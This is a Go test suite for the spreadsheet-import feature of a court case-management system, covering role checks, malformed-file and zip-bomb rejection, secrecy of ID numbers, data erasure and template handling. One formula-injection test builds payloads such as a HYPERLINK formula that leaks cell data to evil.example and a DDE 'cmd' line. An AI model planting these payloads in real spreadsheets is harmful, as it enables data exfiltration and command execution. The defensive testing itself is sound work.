package mashang_test

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"fmt"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"mashang/docket"
	"mashang/platform/db"
	"mashang/platform/dbtest"
)

// TestImportWho: a filing judge of the court, and nobody else, whatever it is.
func TestImportWho(t *testing.T) {
	each(t, func(t *testing.T, h *house) {
		h.administrators()
		h.accepted()
		long, _ := h.caseCode(h.rowsText(`SELECT id FROM docket_case`), "贾若兰")
		h.signIn("贾若兰", "resident", jiaID, jiaPhone, long)
		if err := h.Kit.DB.Do(t.Context(), func(tx *db.Tx) (err error) {
			if h.people["邻立"], err = docket.AddPerson(tx, docket.Person{Kind: "natural", Name: "邻立", At: h.Kit.Now()}); err != nil {
				return err
			}
			_, err = docket.AddPost(tx, docket.Post{Person: h.people["邻立"], Court: "冀1126", Division: h.divs["冀1126立案庭"], Role: docket.FilingJudge, From: h.Kit.Now().Add(-time.Hour)}, h.Kit.Now())
			return err
		}); err != nil {
			t.Fatal(err)
		}
		batch := h.list(listOf(101, 102))
		before, err := readAll(h)
		if err != nil {
			t.Fatal(err)
		}
		for _, who := range []string{"", "贾若兰", "周明远", "李倩", "孙庭", "王院", "韩雪", "系统", "安全", "审计", "督察", "邻县", "邻立"} {
			want := 403
			if who == "" {
				want = 401
			}
			for _, path := range []string{"/intake/" + batch, "/intake/" + batch + "/report"} {
				if got := h.get(who, "/api/v1"+path).code; got != want {
					t.Errorf("%q %s: %d", who, path, got)
				}
			}
			for _, path := range []string{"/intake/" + batch + "/confirm", "/intake/" + batch + "/undo"} {
				if got := h.post(who, path, nil).code; got != want {
					t.Errorf("%q %s: %d", who, path, got)
				}
			}
			if who == "邻立" { // a filing judge, of his own court
				if a := h.get(who, "/api/v1/intake"); a.code != 200 || strings.Contains(a.body, batch) {
					t.Errorf("the neighbour's list: %d %s", a.code, a.body)
				}
				continue
			}
			if got := h.upload(who, "/intake", nil, "list", "名单.csv", []byte(listOf(1, 1))).code; got != want {
				t.Errorf("%q uploads: %d", who, got)
			}
			for _, path := range []string{"/intake", "/intake/template"} {
				if got := h.get(who, "/api/v1"+path).code; got != want {
					t.Errorf("%q %s: %d", who, path, got)
				}
			}
		}
		after, err := readAll(h)
		if err != nil {
			t.Fatal(err)
		}
		if d := before.differs(after, false); d != "" {
			t.Errorf("somebody wrote:\n%s", d)
		}
		// The neighbour's own upload goes to his own court: these numbers are not its.
		other := h.upload("邻立", "/intake", nil, "list", "名单.csv", []byte(listOf(1, 1))).must(t, "his own", 200).get("batch")
		h.drain()
		has(t, "his report", h.get("邻立", "/api/v1/intake/"+other).must(t, "report", 200).body, "案号不是本院的")
		h.get("郭正", "/api/v1/intake/"+other).must(t, "and it is his", 403)
	})
}

func (h *house) rowsText(q string, args ...any) (out string) {
	h.t.Helper()
	if err := h.Kit.Read(h.t.Context(), func(tx *db.Tx) error {
		all, err := db.List[string](tx, q, args...)
		out = strings.Join(all, "\n")
		return err
	}); err != nil {
		h.t.Fatal(err)
	}
	return out
}

// TestImportGarbage: what is not a list is refused in words, at once, and
// nothing of it is kept.
func TestImportGarbage(t *testing.T) {
	h := newHouse(t, dbtest.SQLite(t))
	book := func(f func(*excelize.File)) string {
		b := excelize.NewFile()
		f(b)
		out, err := b.WriteToBuffer()
		if err != nil {
			t.Fatal(err)
		}
		return out.String()
	}
	bomb := func(part string) string { // two hundred megabytes of blanks in a small file
		base := book(func(f *excelize.File) { _ = f.SetCellValue("Sheet1", "A1", "案号") })
		in, err := zip.NewReader(strings.NewReader(base), int64(len(base)))
		if err != nil {
			t.Fatal(err)
		}
		var out bytes.Buffer
		z := zip.NewWriter(&out)
		for _, f := range in.File {
			w, err := z.Create(f.Name)
			if err != nil {
				t.Fatal(err)
			}
			r, err := f.Open()
			if err != nil {
				t.Fatal(err)
			}
			var b bytes.Buffer
			_, _ = b.ReadFrom(r)
			_ = r.Close()
			_, _ = w.Write(b.Bytes())
			if f.Name == part {
				blank := bytes.Repeat([]byte(" "), 1<<20)
				for range 200 {
					_, _ = w.Write(blank)
				}
			}
		}
		_ = z.Close()
		return out.String()
	}
	yes := true
	for name, x := range map[string]struct{ content, words string }{
		"empty":        {"", "请选填好的表格"},
		"blank lines":  {"\n\n ,,, \n", "文件是空的"},
		"head only":    {listHead + "\n", "只有标题"},
		"no head":      {"a,b,c\n1,2,3\n", "案号"},
		"column twice": {"案号,身份证号,证件号码\n1,2,3\n", "“证件号码”这一栏有两个"},
		"a picture":    {"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "请传 Excel 表格"},
		"old excel":    {"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + strings.Repeat("x", 600), "另存为 .xlsx"},
		"a broken zip": {"PK\x03\x04" + strings.Repeat("x", 100), "请传 Excel 表格"},
		"another zip": {func() string {
			var b bytes.Buffer
			z := zip.NewWriter(&b)
			w, _ := z.Create("a.txt")
			_, _ = w.Write([]byte("x"))
			_ = z.Close()
			return b.String()
		}(), "请传 Excel 表格"},
		"neither":       {"案号,\xff\xfe\xfd\n1,2\n", "请传 Excel 表格"},
		"too many rows": {"案号\n" + strings.Repeat("（2026）冀11民初1号\n", 20001), "一次最多 20000 行"},
		"too long":      {"案号,案由\n1," + strings.Repeat("长", 5001) + "\n", "超过 5000 字"},
		"too wide": {book(func(f *excelize.File) {
			_ = f.SetCellValue("Sheet1", "A1", "案号")
			_ = f.SetCellValue("Sheet1", "XFD1", "x")
		}), "超过 200 栏"},
		"far down": {book(func(f *excelize.File) {
			_ = f.SetCellValue("Sheet1", "A1", "案号")
			_ = f.SetCellValue("Sheet1", "A1048576", "1")
		}), "行数太多"},
		"1904": {book(func(f *excelize.File) {
			_ = f.SetCellValue("Sheet1", "A1", "案号")
			_ = f.SetWorkbookProps(&excelize.WorkbookPropsOptions{Date1904: &yes})
		}), "1904"},
		"bomb":        {bomb("xl/worksheets/sheet1.xml"), "表格里的内容太多"},
		"bomb beside": {bomb("xl/styles.xml"), "表格里的内容太多"},
		"quotes":      {"案号,案由\n1,\"没有完\n", "第"},
	} {
		start := time.Now()
		a := h.upload("郭正", "/intake", nil, "list", "名单.xlsx", []byte(x.content))
		if name == "quotes" { // an open quotation mark runs to the end: a cell, and judged as one
			if a.code != 200 && a.code != 422 {
				t.Errorf("%s: %d %s", name, a.code, a.body)
			}
			continue
		}
		if a.code != 422 || !strings.Contains(a.body, x.words) || !strings.Contains(a.body, `"list"`) {
			t.Errorf("%s: %d %s", name, a.code, a.body)
		}
		if d := time.Since(start); d > 10*time.Second {
			t.Errorf("%s took %s", name, d)
		}
	}
	huge := h.upload("郭正", "/intake", nil, "list", "名单.csv", bytes.Repeat([]byte("x"), 22<<20))
	if huge.code != http.StatusRequestEntityTooLarge && huge.code != 422 {
		t.Errorf("huge: %d %s", huge.code, huge.body)
	}
	h.drain()
	if n, files := h.rows(`SELECT COUNT(*) FROM intake_batch`), h.files(); n > 1 || files != n {
		t.Errorf("%d imports and %d files are kept", n, files)
	}
	// What it answers is a page too, with the words beside the field.
	has(t, "page", h.form("郭正", "/intake", nil, "list", "名单.csv", []byte("不是表格")).body, "第一行要写各栏的名称", "上传，先试一遍")
}

func (h *house) files() (n int) {
	h.t.Helper()
	if err := h.Kit.Blob.Each(h.t.Context(), func(string) error { n++; return nil }); err != nil {
		h.t.Fatal(err)
	}
	return n
}

// TestImportSecrets: whose number stands in a list, in its column or in a wrong
// one, stands afterwards in no log, figure, error, job, entry or address, nor
// anywhere in the database but sealed.
func TestImportSecrets(t *testing.T) {
	each(t, func(t *testing.T, h *house) {
		id, phone, wrong := plaintiff(7).id, plaintiff(7).phone, "110101199001011234"
		row := func(n int, f ...string) string {
			return fmt.Sprintf("（2026）冀11民初%d号,%s\n", n, strings.Join(f, ","))
		}
		list := listHead + "," + id + "\n" +
			row(1, "知识产权审判庭", "买卖合同纠纷", "简易程序", "2026-02-09", "周明远", "原告", "原七", id, phone, "某街道") +
			row(2, "知识产权审判庭", "买卖合同纠纷", "简易程序", "2026-02-09", phone, "原告", "原七", id, phone, "某街道") +
			row(3, id, "买卖合同纠纷", "简易程序", "2026-02-09", id, "原告", "原七", id, phone, "某街道") +
			row(4, "知识产权审判庭", "买卖合同纠纷", id, phone, "周明远", id, "原七", wrong, phone[:9], "某街道") +
			row(5, "知识产权审判庭", "买卖合同纠纷", "简易程序", "2026-02-09", "周明远", "原告", "另一个名字", id, phone, "某街道") +
			id + ",知识产权审判庭,买卖合同纠纷,简易程序,2026-02-09,周明远,原告,原七," + id + "," + phone + ",某街道\n"
		batch := h.list(list)
		said := h.get("郭正", "/intake/"+batch).body + h.get("郭正", "/intake/"+batch+"/report?form=csv").body + h.get("郭正", "/api/v1/intake/"+batch).body
		h.confirm(batch)
		h.Kit.Fail = func(tx *db.Tx) error { return errFault } // what fails is logged
		_ = h.Kit.Jobs.Drain(t.Context())
		h.Kit.Fail = nil
		jobs := h.rowsText(`SELECT kind || lane || body || error FROM jobs_job`)
		h.clock.Add(time.Hour)
		h.drain()
		r := h.report(batch)
		if r.Counts["created"] != 1 || r.Counts["wrong"] != 5 {
			t.Errorf("%v %+v", r.Counts, r.Items)
		}
		said += h.upload("郭正", "/intake", nil, "list", "名单.csv", []byte(id+","+phone+"\n")).must(t, "a list without a head", 422).body
		h.post("郭正", "/intake/"+batch+"/undo", nil).must(t, "undo", 200)
		h.drain()
		said += h.get("郭正", "/intake/"+batch).body
		all, err := readAll(h)
		if err != nil {
			t.Fatal(err)
		}
		var rows strings.Builder
		for _, table := range all {
			rows.WriteString(strings.Join(table, "\n"))
		}
		if h.log.Len() < 200 || !strings.Contains(h.log.String(), "intake.carry") || !strings.Contains(jobs, "intake.") {
			t.Fatal("nothing was looked at")
		}
		for what, text := range map[string]string{"log": h.log.String(), "figures": h.get("", "/metrics").body, "answers": said, "jobs": jobs, "database": rows.String()} {
			for _, secret := range []string{id, phone, wrong} {
				if strings.Contains(text, secret) {
					i := strings.Index(text, secret)
					t.Errorf("%s stands in the %s: %s", secret, what, text[max(0, i-200):min(len(text), i+40)])
				}
			}
		}
	})
}

// TestImportErased: after thirty days nothing is left of a list but what became
// of it; one whose upload was sent twice is not kept at all.
func TestImportErased(t *testing.T) {
	each(t, func(t *testing.T, h *house) {
		carried, tried := h.imported(listOf(1, 2)), h.list(listOf(3, 4))
		if n := h.files(); n < 2 {
			t.Fatalf("%d files", n)
		}
		digests := strings.Split(h.rowsText(`SELECT digest FROM intake_batch`), "\n")
		has := func(want bool) {
			t.Helper()
			for _, d := range digests {
				f, err := h.Kit.Blob.Open(t.Context(), d)
				if err == nil {
					_ = f.Close()
				}
				if (err == nil) != want {
					t.Errorf("%s: %v, want it there: %v", d, err, want)
				}
			}
		}
		has(true)
		sealed := func() int { return h.rows(`SELECT COUNT(*) FROM intake_item WHERE record <> ''`) }
		if n := sealed(); n != 2 { // of what is done nobody needs to know it twice
			t.Errorf("%d records are kept", n)
		}
		h.clock.Add(30*24*time.Hour - time.Minute)
		h.drain()
		has(true)
		h.clock.Add(2 * time.Minute)
		h.drain()
		has(false)
		if n := sealed(); n != 0 {
			t.Errorf("%d records are left", n)
		}
		h.states("done: created 2", h.report(carried))
		h.states("spent: new 2", h.report(tried))
		page := h.get("郭正", "/intake/"+tried).body
		if strings.Contains(page, "确认导入") || !strings.Contains(page, "三十天后已经清除") {
			t.Error("the page offers what is erased")
		}
		h.post("郭正", "/intake/"+tried+"/confirm", nil).must(t, "confirm what is erased", 409)
		if n := h.rows(`SELECT COUNT(*) FROM ledger_entry WHERE kind = 'intake.erased'`); n != 2 {
			t.Errorf("%d entries", n)
		}
		// An import of long ago can still be taken back.
		h.post("郭正", "/intake/"+carried+"/undo", nil).must(t, "undo", 200)
		h.drain()
		if r := h.report(carried); r.Counts["withdrawn"]+r.Counts["kept"] != 2 {
			t.Errorf("%v", r.Counts)
		}

		files := h.files()
		b, kind := h.multipart(nil, "list", "名单.csv", []byte(listOf(5, 5)))
		var codes []int
		for range 2 {
			r := h.request("郭正", "/intake", b, kind)
			r.Header.Set("Idempotency-Key", "the same page")
			codes = append(codes, h.send("郭正", r).code)
		}
		if n := h.rows(`SELECT COUNT(*) FROM intake_batch`); n != 3 || h.files() != files+1 {
			t.Errorf("sent twice: %v, %d imports, %d files more", codes, n, h.files()-files)
		}
	})
}

// TestImportFormulas: what a spreadsheet takes for a formula comes out of it as
// words.
func TestImportFormulas(t *testing.T) {
	h := newHouse(t, dbtest.SQLite(t))
	evil := `=HYPERLINK("http://evil.example/?"&A1)`
	book := excelize.NewFile()
	for c, name := range strings.Split(listHead+","+evil, ",") {
		at, _ := excelize.CoordinatesToCellName(c+1, 1)
		if err := book.SetCellStr("Sheet1", at, name); err != nil {
			t.Fatal(err)
		}
	}
	for r, cells := range [][]string{
		{"（2026）冀11民初1号", "@SUM(1)", "-2+3", "简易程序", "2026-02-09", "+cmd|' /C calc'!A0", "原告", evil, "1", "1", evil},
		{evil, evil, evil, evil, evil, evil, evil, evil, evil, evil, evil},
	} {
		for c, v := range cells {
			at, _ := excelize.CoordinatesToCellName(c+1, r+2)
			if err := book.SetCellStr("Sheet1", at, v); err != nil {
				t.Fatal(err)
			}
		}
	}
	for at, f := range map[string]string{"A4": "A2", "H4": `HYPERLINK("http://evil.example")`} { // real ones
		if err := book.SetCellFormula("Sheet1", at, f); err != nil {
			t.Fatal(err)
		}
	}
	content, err := book.WriteToBuffer()
	if err != nil {
		t.Fatal(err)
	}
	batch := h.list(content.String())
	if r := h.report(batch); r.Counts["wrong"] != r.Counts["all"] || r.Counts["all"] < 2 {
		t.Errorf("%v", r.Counts)
	}
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(h.get("郭正", "/intake/"+batch+"/report?form=csv").body, "\ufeff"))).ReadAll()
	if err != nil || len(rows) < 3 {
		t.Fatalf("%d rows, %v", len(rows), err)
	}
	for _, r := range rows {
		for _, c := range r {
			if c != "" && strings.ContainsAny(c[:1], "=+-@\t") {
				t.Errorf("the report has %q", c)
			}
		}
	}
	for _, path := range []string{"/intake/" + batch + "/report", "/intake/template"} {
		f, err := excelize.OpenReader(strings.NewReader(h.get("郭正", path).must(t, path, 200).body))
		if err != nil {
			t.Fatal(err)
		}
		for _, sheet := range f.GetSheetList() {
			rows, err := f.GetRows(sheet)
			if err != nil || len(rows) == 0 {
				t.Fatalf("%s: %d rows, %v", sheet, len(rows), err)
			}
			for r := range rows {
				for c := range rows[r] {
					at, _ := excelize.CoordinatesToCellName(c+1, r+1)
					if formula, err := f.GetCellFormula(sheet, at); err != nil || formula != "" {
						t.Errorf("%s %s: formula %q, %v", sheet, at, formula, err)
					}
				}
			}
		}
	}
}

// TestImportTemplate: the empty list comes back as it is given out, and every
// column of it is known and explained.
func TestImportTemplate(t *testing.T) {
	h := newHouse(t, dbtest.SQLite(t))
	body := h.get("郭正", "/intake/template").must(t, "template", 200).body
	has(t, "the empty list", h.upload("郭正", "/intake", nil, "list", "空表.xlsx", []byte(body)).must(t, "sent back", 422).body, "只有标题，没有内容")
	f, err := excelize.OpenReader(strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	head, err := f.GetRows("案件")
	if err != nil {
		t.Fatal(err)
	}
	help, err := f.GetRows("填写说明")
	if err != nil {
		t.Fatal(err)
	}
	for i, c := range head[0] {
		if help[i+1][0] != c || len(help[i+1]) < 2 {
			t.Errorf("column %q is not explained: %q", c, help[i+1])
		}
	}
	values := map[string]string{"案号": "（2026）冀11民初1号", "承办部门": "知识产权审判庭", "案由": "买卖合同纠纷", "诉讼请求": "还钱", "标的额": "86400.00", "程序": "普通程序", "公开范围": "不公开",
		"收件日期": "2026年1月5日", "立案日期": "2026/1/8", "承办法官": "周明远", "法官助理": "陈助", "书记员": "李倩", "状态": "已结", "扣除天数": "3", "延长月数": "1", "结案日期": "20260220", "结案方式": "判决", "结案案由": "买卖合同纠纷",
		"诉讼地位": "原告", "当事人": "原一", "类别": "自然人", "证件类型": "居民身份证", "证件号码": plaintiff(1).id, "手机号": plaintiff(1).phone, "地址": "某街道",
		"代理人": "刘律师", "代理人类别": "律师", "代理人证件号码": plaintiff(2).id, "代理人手机号": plaintiff(2).phone, "代理人单位": "某所", "特别授权": "承认诉讼请求、进行和解"}
	for c, name := range head[0] {
		at, _ := excelize.CoordinatesToCellName(c+1, 2)
		if err := f.SetCellStr("案件", at, values[name]); err != nil {
			t.Fatal(err)
		}
	}
	out, err := f.WriteToBuffer()
	if err != nil {
		t.Fatal(err)
	}
	r := h.report(h.imported(out.String()))
	if r.Counts["created"] != 1 {
		t.Fatalf("%+v", r)
	}
	c := h.caseOf(r.Items[0].Case)
	if c.Filed != mustDate("2026-01-08") || c.Received != mustDate("2026-01-05") || c.State != docket.Closed || c.ClosedOn != mustDate("2026-02-20") || c.Amount != 8640000 || c.Secrecy != docket.Private || c.Excluded != 3 || c.Extended != 1 {
		t.Errorf("%+v", c)
	}
	has(t, "the judge's page", h.get("周明远", "/api/v1/casebook/"+c.ID).body, "刘律师", "李倩", "陈助")
}
